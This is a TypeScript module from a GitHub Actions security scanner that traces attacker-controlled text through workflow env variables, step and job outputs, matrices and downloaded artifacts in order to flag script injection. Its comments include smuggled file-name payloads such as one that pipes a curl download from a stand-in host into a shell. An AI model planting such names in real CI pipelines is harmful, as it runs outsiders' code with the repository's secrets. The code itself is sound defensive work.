import type { Severity } from '../../../core/finding.js';
import { get, isYMap, text } from '../yaml/tree.js';
import { attackerContext } from './contexts.js';
import { artifactFolders, downloadedFile, downloadedNames, inFolders } from './artifacts.js';
import { dataflowParts, parseExpression } from './expression.js';
import { endOfJob, matrixLeaves, matrixReferences, neededJobs } from './flow.js';
import { PRIVILEGED_TRIGGERS, REVIEW_TRIGGERS, REVIEWER_TEXT, envScopes, expressions, inputDeclarations, parseUses, withValue, workflowRunFromMaintainers, workflowRunNames, type Job, type Step, type Workflow } from './model.js';
import { githubScriptWrites, type ScriptWrite } from './script-writes.js';

/**
 * Where attacker-controlled text in an expression comes from. `text` names it for a
 * message. `severity` caps what a rule reports: an input whose callers are unknown is
 * only possibly attacker-controlled. `privileged` says whether the workflow the text
 * came from runs with a write token for outsiders' events (for an input filled by a
 * caller, that caller's workflow); when absent, the workflow being checked decides.
 */
export interface Source {
  text: string;
  severity?: Extract<Severity, 'medium' | 'low'>;
  privileged?: boolean;
  /** The triggers that make it privileged, when a review trigger is among them (REVIEW_TRIGGERS). */
  privilegedBy?: string[];
  /** The attacker-controlled context at the start of a chain of inputs, when `text` names an input. */
  origin?: string;
}

/** The context an attacker writes, at the start of whatever chain carries it. */
export function originOf(source: Source): string {
  return source.origin ?? source.text.replace(/ \([\s\S]*$/, '');
}

/** What carries attacker-controlled text into a step besides the contexts themselves. */
export interface Taint {
  /** Env names whose values come from attacker-controlled contexts. */
  env: Map<string, Source>;
  /** `stepid.output` (lower case) of earlier steps of the job that wrote attacker-controlled text, with how; `stepid.*` for every output of a step. */
  outputs: Map<string, Source>;
  /** `job.output` (lower case) of the jobs this one needs whose outputs carry attacker-controlled text. */
  needs?: Map<string, Source>;
  /** Matrix paths (`settings.ref`, '' for a computed matrix) whose values carry attacker-controlled text. */
  matrix?: Map<string, Source>;
}

function weight(source: Source): number {
  return source.severity === 'low' ? 1 : source.severity === 'medium' ? 2 : source.privileged ? 4 : 3;
}

/** The source that weighs most (uncapped before capped), the first of equals. */
export function worst(sources: Iterable<Source | undefined>): Source | undefined {
  let out: Source | undefined;
  for (const source of sources) if (source && (!out || weight(source) > weight(out))) out = source;
  return out;
}

/**
 * Env names whose values come from attacker-controlled contexts. An inner scope (step,
 * then job) overrides an outer one: `env: { X: safe }` on the step hides a tainted
 * workflow-level X.
 */
function taintedEnv(wf: Workflow, step: Step, base: Taint): Map<string, Source> {
  const taint: Taint = { ...base, env: new Map() };
  for (const scope of envScopes(wf, step)) {
    for (const p of scope.pairs) {
      const value = text(p.value);
      const source = value ? worst(expressions(value).map((e) => untrustedSource(e.inner, taint, wf))) : undefined;
      if (source) taint.env.set(p.key, source);
      else taint.env.delete(p.key);
    }
  }
  return taint.env;
}

function escapeRegExp(value: string): string {
  return value.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** `$NAME` or `${NAME}` of a tainted env variable in a line of shell, if any, with its source. */
export function taintedVariable(line: string, env: Map<string, Source>): { name: string; source: Source } | undefined {
  const found = [...env].filter(([name]) => new RegExp(`\\$\\{?${escapeRegExp(name)}\\b`).test(line)).map(([name, source]) => ({ name, source }));
  const most = worst(found.map((f) => f.source));
  return found.find((f) => f.source === most);
}

/**
 * Outputs that earlier `run:` steps of the job (those with an `id`) write from
 * attacker-controlled text: `echo "title=$TITLE" >> "$GITHUB_OUTPUT"` with TITLE set from
 * an issue title. Passing the title through env: keeps that step safe, but
 * `${{ steps.<id>.outputs.title }}` in a later script brings the same text back in. So do
 * actions/github-script steps (`core.setOutput('title', context.payload.issue.title)`, or
 * a `return` that becomes output `result`), and actions known to hand back such text.
 */
function taintedOutputs(wf: Workflow, step: Step, base: Omit<Taint, 'env' | 'outputs'>): Map<string, Source> {
  const outputs = new Map<string, Source>();
  for (const earlier of step.job.steps) {
    if (earlier.index >= step.index) break;
    const id = text(get(earlier.node, 'id'));
    const action = id && earlier.uses ? parseUses(earlier.uses).action.toLowerCase() : undefined;
    for (const [name, what] of Object.entries((action && ACTION_TEXT_OUTPUTS[action]) || {}))
      outputs.set(`${id}.${name}`, { text: `steps.${id}.outputs.${name} (${what}, from ${action})` });
    const folders = id ? artifactFolders(wf, earlier) : undefined;
    const fileInput = action && FILE_OUTPUT_ACTIONS[action];
    const file = fileInput ? withValue(earlier, fileInput)?.value : undefined;
    if (folders && file !== undefined && inFolders(file, folders))
      outputs.set(`${id}.*`, { text: `steps.${id}.outputs (read by ${action} from ${downloadedFile(file)})` });
    if (!id) continue;
    const taintHere = (): Taint => ({ ...base, env: taintedEnv(wf, earlier, { ...base, env: new Map(), outputs }), outputs });
    // `core.setOutput('pr', pr)` or `return pr` in a github-script step, with pr read from the event or a downloaded file.
    if (action === 'actions/github-script')
      for (const write of githubScriptTaint(wf, earlier, taintHere())) if (write.kind === 'output') setWritten(outputs, id, write.name, write.source);
    if (!earlier.run || typeof earlier.run.value !== 'string' || !/GITHUB_OUTPUT|::set-output/.test(earlier.run.value)) continue;
    const taint = taintHere();
    // What a line takes from the downloaded files: a file's content, or the names of the files in a folder (`$(find dist -name '*.whl')`).
    const read = (line: string): string | undefined => {
      if (!folders) return undefined;
      const file = artifactRead(line, folders);
      if (file !== undefined) return downloadedFile(file);
      const listed = artifactListing(line, folders);
      return listed === undefined ? undefined : downloadedNames(listed);
    };
    const shell = new Set<string>();
    for (const line of earlier.run.value.split('\n')) {
      if (/^\s*#/.test(line)) continue;
      // A shell variable assigned from a downloaded file carries its text to the lines below.
      const assigned = /^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=/.exec(line)?.[1] ?? /^\s*read\s+(?:-r\s+)?([A-Za-z_]\w*)\s*</.exec(line)?.[1];
      const readFile = read(line);
      if (assigned && readFile !== undefined && !/\$\{?GITHUB_OUTPUT\b/.test(line)) {
        taint.env.set(assigned, { text: readFile });
        shell.add(assigned);
        continue;
      }
      const name = /\$\{?GITHUB_OUTPUT\b/.test(line)
        ? /(?:^|[\s"'])([A-Za-z_][\w-]*)=/.exec(line.split('>>')[0]!)?.[1]
        : /::set-output\s+name=([\w-]+)::/.exec(line)?.[1];
      // `cat pr/outputs.txt >> "$GITHUB_OUTPUT"`: the file names the outputs and gives their values.
      if (!name && readFile !== undefined && /\$\{?GITHUB_OUTPUT\b/.test(line)) {
        setWritten(outputs, id, undefined, { text: readFile });
        continue;
      }
      if (!name) continue;
      const variable = taintedVariable(line, taint.env);
      const from =
        worst(expressions(line).map((e) => untrustedSource(e.inner, taint, wf))) ??
        (variable ? { ...variable.source, text: shell.has(variable.name) ? variable.source.text : `env.${variable.name}` } : undefined) ??
        (readFile !== undefined ? { text: readFile } : undefined);
      if (from) setWritten(outputs, id, name, from);
    }
  }
  return outputs;
}

/** Output `name` of step `id` (every output when undefined) holds text from `from`. */
function setWritten(outputs: Map<string, Source>, id: string, name: string | undefined, from: Source): void {
  const what = name === undefined ? `steps.${id}.outputs` : `steps.${id}.outputs.${name}`;
  outputs.set(`${id}.${name ?? '*'}`.toLowerCase(), { ...from, text: `${what} (written by step ${id} from ${from.text.replace(/ \(.*$/, '')})` });
}

/** What the JavaScript of an actions/github-script step writes from attacker-controlled text (script-writes.ts), with the taint at that step. */
export function githubScriptTaint(wf: Workflow, step: Step, taint: Taint): ScriptWrite[] {
  const folders = artifactFolders(wf, step);
  return githubScriptWrites(step, {
    expression: (inner) => untrustedSource(inner, taint, wf),
    env: (name) => taint.env.get(name),
    ...(folders ? { folders } : {}),
  });
}

/**
 * Outputs of popular actions that hand back text an outsider wrote: the pull request a
 * comment belongs to, the current or merged pull request, a found comment. Keys are lower
 * case, as GitHub compares action and output names.
 */
const CHANGED_FILE_OUTPUTS = Object.fromEntries(['all', 'added', 'modified', 'removed', 'renamed', 'added_modified'].map((name) => [name, 'the names of the files the pull request or push changed']));

const ACTION_TEXT_OUTPUTS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  // Looks up the pull request of a workflow_run: a fork's branch name and its repository's name.
  'gradio-app/github/actions/find-pr': { source_branch: "the pull request's branch name", source_repo: "the pull request's head repository" },
  'xt0rted/pull-request-comment-branch': { head_ref: "the pull request's branch name", ref: "the pull request's branch name" },
  'peter-evans/find-comment': { 'comment-body': "a comment's text" },
  '8bitjonny/gh-get-current-pr': { pr_title: "the pull request's title", pr_body: "the pull request's body", pr: 'the whole pull request, title and body included' },
  'jwalton/gh-find-current-pr': { title: "the pull request's title", body: "the pull request's body" },
  'actions-ecosystem/action-get-merged-pull-request': { title: "the pull request's title", body: "the pull request's body" },
  // File names are the author's to choose (`$(curl …).txt`), and these actions hand them back unescaped (tj-actions/changed-files escapes them by default since v41).
  'jitterbit/get-changed-files': CHANGED_FILE_OUTPUTS,
  'masesgroup/retrieve-changed-files': CHANGED_FILE_OUTPUTS,
};

/**
 * Actions that turn a file into outputs (a JSON file's keys, a file's content), by the
 * input naming the file. After a download of the triggering run's artifacts, every output
 * is whatever that run wrote.
 */
const FILE_OUTPUT_ACTIONS: Readonly<Record<string, string>> = {
  'gradio-app/github/actions/json-to-output': 'path',
  'juliangruber/read-file-action': 'path',
};

/** The start of a command that reads a file given as an argument, not a pipe's output; or a redirection from a file path (`< pr/number`, not `<b>`). */
const FILE_READER = /(?:^|\$\(|[;{(]|&&|\|\|)\s*(cat|head|tail|jq)\s([^|)<>;&]*)|\$\(\s*<\s*([^\s)]+)|(?:^|\s)<\s*("[^"]*[./][^"]*"|'[^']*[./][^']*'|[\w${}-]*[./][\w./${}-]*)/g;

/** Options of head, tail and jq that take a value. */
const OPTION_ARGS: Readonly<Record<string, ReadonlySet<string>>> = {
  head: new Set(['-n', '-c', '--lines', '--bytes']),
  tail: new Set(['-n', '-c', '--lines', '--bytes']),
  jq: new Set(['--arg:2', '--argjson:2', '--slurpfile:2', '--rawfile:2', '--indent', '-f', '--from-file']),
  cat: new Set(),
};

/** The files a command reads, from its words: what is left after options (and, for jq, the filter). */
function filesOf(command: string, words: string[]): string[] {
  const takes = OPTION_ARGS[command]!;
  const rest: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const word = words[i]!;
    if (takes.has(`${word}:2`)) i += 2;
    else if (takes.has(word)) i += 1;
    else if (!word.startsWith('-')) rest.push(word);
  }
  return command === 'jq' ? rest.slice(1) : rest;
}

/**
 * `find DIR ...` or `ls DIR` at the start of a command (in `$(...)` too), with what follows it
 * up to the end of its pipeline: the names they print are the files' names.
 */
const FILE_LISTER = /(?:^|\$\(|`|[;{(]|&&|\|\|)\s*(find|ls)(?![^\s|)<>;&`])((?:\s+[^\s|)<>;&`]+)*)([^)<>;&`]*)/g;

/** Options of find that come before its paths (`-L`, `-H`, `-P`, `-O3`, `-D opts`). */
const FIND_LEADING = /^-(?:[HLP]|O\d*|D)$/;

/**
 * A folder (or file pattern) of the downloaded artifacts whose file names a line of shell
 * prints: `$(find dist -name '*.whl')`, `ls -1 dist/*.whl`. A file's name is the fork's to
 * choose (`x;curl${IFS}example.org|sh;.whl` is one), like its content. A count of them
 * (`| wc -l`, `| grep -c`) is no name.
 */
function artifactListing(line: string, folders: readonly string[]): string | undefined {
  if (/<<</.test(line)) return undefined;
  for (const m of line.matchAll(FILE_LISTER)) {
    if (/\|\s*(?:wc\b|grep\s+(?:-\w*c\b|--count\b))/.test(m[3] ?? '')) continue;
    const words = (m[2] ?? '').match(/'[^']*'|"[^"]*"|\S+/g) ?? [];
    const paths: string[] = [];
    if (m[1] === 'find') {
      let i = 0;
      while (i < words.length && FIND_LEADING.test(words[i]!)) i += words[i] === '-D' ? 2 : 1;
      for (; i < words.length && !/^[-(!]/.test(words[i]!); i++) paths.push(words[i]!);
    } else paths.push(...words.filter((w) => !w.startsWith('-')));
    // With no path both list the working directory, the workspace.
    if (paths.length === 0) paths.push('.');
    const found = paths.find((p) => inFolders(p, folders));
    if (found) return found.replace(/^["']|["']$/g, '');
  }
  return undefined;
}

/** A file of the downloaded artifacts that a line of shell reads (`$(cat pr/sha.txt)`, `jq -r .sha pr.json`, `< pr/number`), if any. */
function artifactRead(line: string, folders: readonly string[]): string | undefined {
  if (/<<</.test(line)) return undefined;
  for (const m of line.matchAll(FILE_READER)) {
    const files = m[1] ? filesOf(m[1], m[2]!.match(/'[^']*'|"[^"]*"|\S+/g) ?? []) : [m[3] ?? m[4]!];
    const found = files.find((f) => !/\$\{?GITHUB_(?:OUTPUT|ENV|PATH|STEP_SUMMARY)\b/.test(f) && !f.startsWith('&') && inFolders(f, folders));
    if (found) return found.replace(/^["']|["']$/g, '');
  }
  return undefined;
}

/** How deep secloop follows needs: from job to job. */
const MAX_NEEDS_DEPTH = 6;

const jobOutputsCache = new WeakMap<Workflow, Map<string, Map<string, Source>>>();

/**
 * The outputs of `job` that carry attacker-controlled text: `outputs: { x: ${{ steps.s.outputs.y }} }`
 * where step s wrote such text, or where the job passes on what a job it needs handed it.
 */
function jobOutputs(wf: Workflow, job: Job, depth: number): Map<string, Source> {
  let cache = jobOutputsCache.get(wf);
  if (!cache) jobOutputsCache.set(wf, (cache = new Map()));
  const cached = cache.get(job.id);
  if (cached) return cached;
  const out = new Map<string, Source>();
  const declared = get(job.node, 'outputs');
  if (isYMap(declared) && depth < MAX_NEEDS_DEPTH) {
    // A cycle of needs (invalid, but hostile input) ends here: the job in progress has no tainted outputs.
    cache.set(job.id, out);
    const taint = taintAt(wf, endOfJob(job), depth + 1);
    for (const p of declared.pairs) {
      const value = text(p.value);
      const source = value ? worst(expressions(value).map((e) => untrustedSource(e.inner, taint, wf))) : undefined;
      if (source) out.set(p.key.toLowerCase(), { ...source, text: `needs.${job.id}.outputs.${p.key} (set by job ${job.id} from ${source.text})` });
    }
    return out;
  }
  return out;
}

function needsTaint(wf: Workflow, job: Job, depth: number): Map<string, Source> {
  const out = new Map<string, Source>();
  for (const needed of neededJobs(wf, job)) for (const [name, source] of jobOutputs(wf, needed, depth)) out.set(`${needed.id}.${name}`.toLowerCase(), source);
  return out;
}

/** Matrix paths whose values (written out, or computed from needs or inputs) carry attacker-controlled text. */
function matrixTaint(wf: Workflow, job: Job, needs: Map<string, Source>): Map<string, Source> {
  const out = new Map<string, Source>();
  const taint: Taint = { env: new Map(), outputs: new Map(), needs };
  for (const { path, value } of matrixLeaves(job)) {
    const source = worst(expressions(value).map((e) => untrustedSource(e.inner, taint, wf)));
    if (source) out.set(path.toLowerCase(), worst([out.get(path.toLowerCase()), { ...source, text: `matrix${path ? `.${path}` : ''} (set from ${source.text})` }])!);
  }
  return out;
}

function taintAt(wf: Workflow, step: Step, depth: number): Taint {
  const needs = needsTaint(wf, step.job, depth);
  const base = { needs, matrix: matrixTaint(wf, step.job, needs) };
  const outputs = taintedOutputs(wf, step, base);
  return { ...base, env: taintedEnv(wf, step, { ...base, env: new Map(), outputs }), outputs };
}

export function taintOf(wf: Workflow, step: Step): Taint {
  return taintAt(wf, step, 0);
}

/** A taint with nothing in it: where no env or step output exists (the `with:` of a job that calls a reusable workflow). */
export const NO_TAINT: Taint = { env: new Map(), outputs: new Map() };

/**
 * The attacker-controlled context an expression reads directly, through `env.X` or
 * through the output of an earlier step. In a composite action, `inputs.X` is whatever
 * the calling workflow passes, often a title or branch name; so is a string input of a
 * reusable workflow (workflow_call). When the scan holds the callers (callers.ts), the
 * input is attacker-controlled only if one of them passes such text; with none found it
 * stays a possibility, reported below the level of a known one. Inputs of
 * workflow_dispatch come from someone allowed to run the workflow, and boolean, number
 * or choice inputs cannot carry code.
 */
export function untrustedSource(expression: string, taint: Taint, wf: Workflow): Source | undefined {
  // Only what can come out as the value counts: not a context that is only compared or tested.
  const tree = parseExpression(expression);
  if (tree) expression = dataflowParts(tree).map((part) => expression.slice(part.start, part.end)).join(' ');
  if (expression === '') return undefined;
  expression = withoutFilteredRunName(expression, wf);
  const direct = attackerContext(expression);
  if (direct) {
    const carriers = payloadEvents(direct, wf);
    const carrying = carriers?.filter((e) => wf.triggers.has(e));
    // Empty for every trigger of the workflow: nothing to inject today, but a trigger added later makes it live.
    if (carriers && carrying!.length === 0) return { text: `${direct} (empty for this workflow's triggers: only ${carriers.join(' and ')} events carry it)`, severity: 'low' };
    const source = fromMaintainersRun(direct, wf);
    if (!source || source.privileged !== undefined) return source;
    // A review's or comment's text on a review trigger: anyone's, in a run that has secrets for the base repository's own pull requests.
    const reviews = [...wf.triggers.keys()].filter((e) => REVIEW_TRIGGERS.has(e) && REVIEWER_TEXT.test(direct) && (carrying ?? [e]).includes(e));
    // Only the triggers that carry it bring it in: a push's commit message in a workflow also run for comments is a push's.
    if (reviews.length > 0) return { ...source, privileged: true, privilegedBy: [...reviews, ...(carrying ?? [...wf.triggers.keys()]).filter((e) => PRIVILEGED_TRIGGERS.has(e))] };
    return carrying ? { ...source, privileged: carrying.some((e) => PRIVILEGED_TRIGGERS.has(e)) } : source;
  }
  const found: Source[] = [];
  const viaEnv = /\benv\.([A-Za-z_][A-Za-z0-9_]*)/.exec(expression);
  const env = viaEnv ? taint.env.get(viaEnv[1]!) : undefined;
  if (env) found.push({ ...env, text: env.severity ? `env.${viaEnv![1]} (set from ${env.text.replace(/ \(.*$/, '')})` : `env.${viaEnv![1]} (set from an attacker-controlled context)` });
  for (const output of expression.matchAll(/\bsteps\.([\w-]+)\.outputs\.([\w-]+)/gi)) {
    const from = taint.outputs.get(`${output[1]}.${output[2]}`.toLowerCase()) ?? taint.outputs.get(`${output[1]}.*`.toLowerCase());
    if (from) found.push(from.text.startsWith(`steps.${output[1]}.outputs `) ? { ...from, text: from.text.replace(/^(steps\.[\w-]+\.outputs)/, `$1.${output[2]}`) } : from);
  }
  for (const output of expression.matchAll(/(?<![\w.])needs\.([\w-]+)\.outputs\.([\w-]+)/gi)) {
    const from = taint.needs?.get(`${output[1]}.${output[2]}`.toLowerCase());
    if (from) found.push(from);
  }
  for (const path of matrixReferences(expression)) {
    const wanted = path.toLowerCase();
    for (const [at, source] of taint.matrix ?? []) if (at === wanted || at === '' || wanted.startsWith(`${at}.`) || at.startsWith(`${wanted}.`)) found.push(source);
  }
  for (const input of expression.matchAll(/(?<![\w.])inputs\.([\w-]+)/g)) found.push(...inputSource(wf, input[1]!));
  return worst(found);
}

/** The events whose payload holds an object of `github.event`; the others leave its fields empty. */
const PAYLOAD_EVENTS: ReadonlyArray<[RegExp, readonly string[]]> = [
  [/^github\.event\.(?:head_commit|commits)\b/i, ['push']],
  [/^github\.event\.issue\b/i, ['issues', 'issue_comment']],
  [/^github\.event\.pull_request\b/i, ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']],
  [/^github\.event\.review\b/i, ['pull_request_review']],
  [/^github\.event\.discussion\b/i, ['discussion', 'discussion_comment']],
  [/^github\.event\.workflow_run\b/i, ['workflow_run']],
  [/^github\.event\.pages\b/i, ['gollum']],
  [/^github\.event\.forkee\b/i, ['fork']],
];

/**
 * The events whose payload carries the context (`github.event.head_commit` only a push
 * event's, `github.event.issue` those of issues and issue_comment): a workflow none of whose
 * triggers is one of them expands it to nothing. Undefined when not known, or when any
 * event may come (a composite action or reusable workflow runs on its caller's).
 */
function payloadEvents(context: string, wf: Workflow): readonly string[] | undefined {
  if (wf.composite || wf.triggers.size === 0 || wf.triggers.has('workflow_call')) return undefined;
  return PAYLOAD_EVENTS.find(([pattern]) => pattern.test(context))?.[1];
}

/**
 * An attacker-controlled context of a workflow_run event, in a workflow whose upstream
 * runs only maintainers start (push, schedule, release...): the branch and the workflow
 * file are the repository's own, and a commit's message or author is what a push to the
 * repository carries (as in a push workflow: not privileged). Other contexts as found.
 */
function fromMaintainersRun(context: string, wf: Workflow): Source | undefined {
  const run = /^github\.event\.(?:workflow_run\.(head_branch|name|path|head_commit)|workflow\.(?:name|path))\b/i.exec(context);
  if (!run || !workflowRunFromMaintainers(wf)) return { text: context };
  return run[1]?.toLowerCase() === 'head_commit' ? { text: context, privileged: false } : undefined;
}

/**
 * The expression without the triggering workflow's name when `workflow_run.workflows`
 * lists names without wildcards: a run starts this workflow only if its workflow's name is
 * one of them, so a fork renaming its workflow file's `name:` stops the run rather than
 * injecting. The run's title (`display_title`, from `run-name:`) and the file's path stay the fork's.
 */
function withoutFilteredRunName(expression: string, wf: Workflow): string {
  if (!/\bgithub\.event\.workflow(?:_run)?\.name\b/i.test(expression) || !workflowRunNames(wf)) return expression;
  return expression.replace(/\bgithub\.event\.workflow(?:_run)?\.name\b/gi, "''");
}

/** The string of {@link untrustedSource}, for rules that need no more. */
export function untrusted(expression: string, taint: Taint, wf: Workflow): string | undefined {
  return untrustedSource(expression, taint, wf)?.text;
}

function inputSource(wf: Workflow, name: string): Source[] {
  let what: string;
  let unknown: string;
  if (wf.composite) {
    what = 'an action input';
    unknown = 'an action input the caller may fill with attacker-controlled text';
  } else if (inputDeclarations(wf, name).some((d) => d.source === 'workflow_call' && d.type === 'string')) {
    what = 'a string input of a reusable workflow';
    unknown = 'a string input of a reusable workflow, which the calling workflow may fill with attacker-controlled text';
  } else return [];
  const verdict = wf.callers?.verdict(wf, name);
  if (!verdict) return [{ text: `inputs.${name} (${unknown})`, severity: 'medium' }];
  if (verdict.kind === 'safe') return [];
  if (verdict.kind === 'tainted') return [{ text: `inputs.${name} (${what} that ${verdict.caller} fills with ${verdict.via})`, privileged: verdict.privileged, origin: verdict.origin }];
  return [{ text: `inputs.${name} (${what} ${verdict.why})`, severity: verdict.severity }];
}
